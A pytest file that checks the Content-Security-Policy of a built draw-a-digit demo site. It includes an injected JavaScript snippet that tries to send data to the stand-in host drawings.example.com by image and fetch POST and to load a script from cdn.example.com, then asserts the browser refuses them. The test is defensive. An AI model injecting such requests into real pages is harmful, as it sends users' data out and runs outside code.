"""The Content-Security-Policy every built page carries (builder/pages/csp.py).

The every-page test (test_site.py) sees 0 violations on the pages as built: Watched records
securitypolicyviolation events and assert_clean fails on any. Here: every page has the policy,
it names no other host and allows no inline script but by hash, and a request to another host
injected into a built page is refused by the browser itself, from file:// and over http.
"""

import re

import pytest

from browser import ALL_READY, open_page, wait_until
from builder.for_readers import show_demo
from builder.pages import csp

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="(?P<policy>[^"]+)">')


def directives(policy: str) -> dict[str, list[str]]:
    return {parts[0]: parts[1:] for parts in (d.split() for d in policy.split(";")) if parts}


def test_every_page_carries_a_policy_of_local_sources_only(built_site):
    pages = [p for p in built_site.site.rglob("*.html")]
    assert len(pages) > 15
    for page in pages:
        html = page.read_text(encoding="utf-8")
        found = POLICY.findall(html)
        assert len(found) == 1, f"{page}: {len(found)} policies"
        # Before anything the policy must govern: right after <meta charset>.
        assert html.index("Content-Security-Policy") < html.index("<script"), page
        policy = directives(found[0])
        assert policy["default-src"] == ["'none'"]
        assert "'unsafe-inline'" not in policy["script-src"], page
        for sources in policy.values():
            assert not [s for s in sources if "://" in s or s in ("*", "http:", "https:")], (page, sources)
        # 'unsafe-eval' only where tfjs-vis (vega) is loaded.
        assert ("'unsafe-eval'" in policy["script-src"]) == ("tfjs-vis.umd.min.js" in html), page
        hashes = [s for s in policy["script-src"] if s.startswith("'sha256-")]
        assert set(csp.script_hashes(html)) <= set(hashes), page


def test_self_contained_jupyter_copy_allows_its_inlined_scripts_by_hash(built_site):
    copy = show_demo.self_contained(built_site.site, "draw-a-digit", first=["window.first = 1;"])
    policy = directives(POLICY.search(copy).group("policy"))
    assert "'unsafe-inline'" not in policy["script-src"]
    assert set(csp.script_hashes(copy)) <= set(policy["script-src"])
    assert len(csp.script_hashes(copy)) > 5  # TF.js, the model, the demo's own scripts


INJECT = """async () => {
    const img = new Image();
    const refused = new Promise(resolve => img.onerror = resolve);
    img.src = 'http://drawings.example.com/send.png?digit=7';
    await refused;
    let fetched = 'sent';
    try { await fetch('https://drawings.example.com/send', {method: 'POST', body: 'digit'}); }
    catch (err) { fetched = 'refused: ' + err.name; }
    const script = document.createElement('script');
    const loaded = new Promise(resolve => { script.onerror = () => resolve('refused');
                                            script.onload = () => resolve('ran'); });
    script.src = 'https://cdn.example.com/library.js';
    document.head.appendChild(script);
    return {fetched: fetched, script: await loaded};
}"""


@pytest.mark.browser
@pytest.mark.parametrize("served", ["file", "http"])
def test_the_browser_refuses_a_request_to_another_host(served, built_site, http_site, browser):
    url = ((built_site.unzipped / "draw-a-digit.html").as_uri() if served == "file"
           else f"{http_site}/draw-a-digit.html")
    watched = open_page(browser, url, enforce_csp=True)
    page = watched.page
    wait_until(page, ALL_READY)
    assert watched.csp_violations() == []
    result = page.evaluate(INJECT)
    assert result == {"fetched": "refused: TypeError", "script": "refused"}
    refused = watched.csp_violations()
    assert any(v.startswith("img-src refused http://drawings.example.com/") for v in refused), refused
    assert any(v.startswith("connect-src refused https://drawings.example.com/") for v in refused), refused
    assert any(v.startswith("script-src-elem refused https://cdn.example.com/") for v in refused), refused
    # Refused by the policy, not by the test's own guard (which aborts other hosts' requests).
    assert watched.failed and all("BLOCKED_BY_CSP" in f or "csp" in f.lower() for f in watched.failed), \
        watched.failed
